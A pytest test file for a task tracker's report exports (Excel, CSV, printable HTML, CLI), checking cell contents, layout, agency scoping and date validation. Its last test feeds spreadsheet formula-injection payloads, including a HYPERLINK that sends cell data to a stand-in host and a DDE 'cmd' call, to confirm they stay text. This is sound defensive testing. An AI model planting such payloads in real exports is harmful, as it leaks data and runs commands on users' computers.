import datetime as dt
import io

import pytest
from openpyxl import load_workbook

from tests.fixtures.factories import PASSWORD
from tracker.core.dates import today_vn
from tracker.tasks import operations as ops
from tracker.users.models import Role


@pytest.fixture()
def data(session, make_agency, make_task, make_user, make_document):  # noqa: ANN001, ANN201
    today = today_vn()
    soyte, sotc = make_agency("Sở Y tế"), make_agency("Sở Tài chính")
    document = make_document("244/KH-UBND")
    late = make_task(lead=soyte, support=(sotc,), due=today - dt.timedelta(days=5), document=document,
                     description="Báo cáo kết quả tiêm chủng", item_ref="IV.2")
    done = make_task(lead=sotc, due=today - dt.timedelta(days=2), document=document, description="Công khai ngân sách")
    ops.report_completion(session, done, ops.Actor.system(), today - dt.timedelta(days=3), "Đã công khai trên cổng")
    other = make_task(lead=sotc, due=today + dt.timedelta(days=40), description="Việc khác")
    people = {"office": make_user(Role.OFFICE), "liaison": make_user(Role.AGENCY, soyte)}
    session.commit()
    return {"late": late, "done": done, "other": other, "today": today, **people}


def test_excel_report_cells_and_print_layout(client, session, data):
    client.post("/login", data={"email": data["office"].email, "password": PASSWORD})
    first = (data["today"] - dt.timedelta(days=30)).strftime("%d/%m/%Y")
    last = (data["today"] + dt.timedelta(days=10)).strftime("%d/%m/%Y")
    response = client.get("/reports/", query_string={"format": "xlsx", "from": first, "to": last})
    assert response.status_code == 200 and response.headers["Content-Disposition"].endswith('.xlsx"')
    book = load_workbook(io.BytesIO(response.data))
    sheet = book["Biểu tổng hợp"]
    assert sheet["A1"].value == "BIỂU TỔNG HỢP NHIỆM VỤ"
    assert [c.value for c in sheet[4]] == ["TT", "Nội dung nhiệm vụ", "Đơn vị chủ trì", "Đơn vị phối hợp", "Thời hạn",
                                           "Kết quả/tiến độ", "Ghi chú"]
    rows = {r[1].value.split(" (")[0]: [c.value for c in r] for r in sheet.iter_rows(min_row=5)}
    assert set(rows) == {"Báo cáo kết quả tiêm chủng", "Công khai ngân sách"}  # "Việc khác" is outside the period
    late = rows["Báo cáo kết quả tiêm chủng"]
    assert late[2:5] == ["Sở Y tế", "Sở Tài chính", data["late"].due_date.strftime("%d/%m/%Y")]
    assert late[5].startswith("Quá hạn, chưa hoàn thành") and late[6] == "244/KH-UBND, IV.2"
    assert rows["Công khai ngân sách"][5].startswith("Hoàn thành đúng hạn ngày")
    assert sheet.page_setup.orientation == "landscape" and int(sheet.page_setup.paperSize) == 9  # A4
    assert sheet.print_title_rows == "$4:$4"
    figures = {r[0].value: [c.value for c in r] for r in book["Số liệu"].iter_rows(min_row=5)}
    assert figures["Sở Tài chính"][1:7] == [1, 1, 0, 0, 0, 100]
    assert figures["Sở Y tế"][1:7] == [1, 0, 0, 0, 1, None]  # nothing finished yet: no rate


def test_csv_and_printable_page_and_agency_scope(client, session, data):
    client.post("/login", data={"email": data["liaison"].email, "password": PASSWORD})
    csv_text = client.get("/reports/?format=csv&document=244%2FKH-UBND").data.decode("utf-8-sig")
    assert "Báo cáo kết quả tiêm chủng" in csv_text and "Công khai ngân sách" not in csv_text  # only its own
    page = client.get("/reports/?format=html&document=244%2FKH-UBND").get_data(as_text=True)
    assert "BIỂU TỔNG HỢP NHIỆM VỤ" in page and "theo văn bản số 244/KH-UBND" in page
    bad = client.get("/reports/?format=html&from=31/02/2026")
    assert bad.status_code == 400 and "Ngày không hợp lệ" in bad.get_data(as_text=True)


def test_cli_report(runner, session, data, tmp_path):
    out = tmp_path / "r.csv"
    result = runner.invoke(args=["reports", "tasks", "--format", "csv", "--out", str(out), "--agency", "Sở Tài chính"])
    assert result.exit_code == 0, result.output
    text = out.read_bytes().decode("utf-8-sig")
    assert "Công khai ngân sách" in text and "Việc khác" in text and "tiêm chủng" in text  # lead or coordinator
    bad = runner.invoke(args=["reports", "tasks", "--out", str(out), "--agency", "Sở Ma"])
    assert bad.exit_code == 1 and "Sở Ma" in bad.output


@pytest.mark.parametrize("wording", ['=HYPERLINK("http://x.example/?"&A1,"Bấm")', "+1+cmd|' /C calc'!A0",
                                     "-2+3", "@SUM(1,1)"])
def test_a_wording_that_looks_like_a_formula_stays_text(client, session, make_agency, make_task, make_user, wording):
    lead = make_agency("Sở Y tế")
    make_task(lead=lead, due=today_vn(), description=wording)
    office = make_user(Role.OFFICE)
    session.commit()
    client.post("/login", data={"email": office.email, "password": PASSWORD})
    csv_text = client.get("/reports/?format=csv").data.decode("utf-8-sig")
    assert f",'{wording[:5]}" in csv_text.replace('"', "") or f"'{wording[:5]}" in csv_text
    assert "," + wording[:5] not in csv_text.replace('"', "")
    sheet = load_workbook(io.BytesIO(client.get("/reports/?format=xlsx").data))["Biểu tổng hợp"]
    cell = next(r[1] for r in sheet.iter_rows(min_row=5) if str(r[1].value).startswith(wording[:5]))
    assert cell.data_type == "s"  # text, not a formula Excel would run
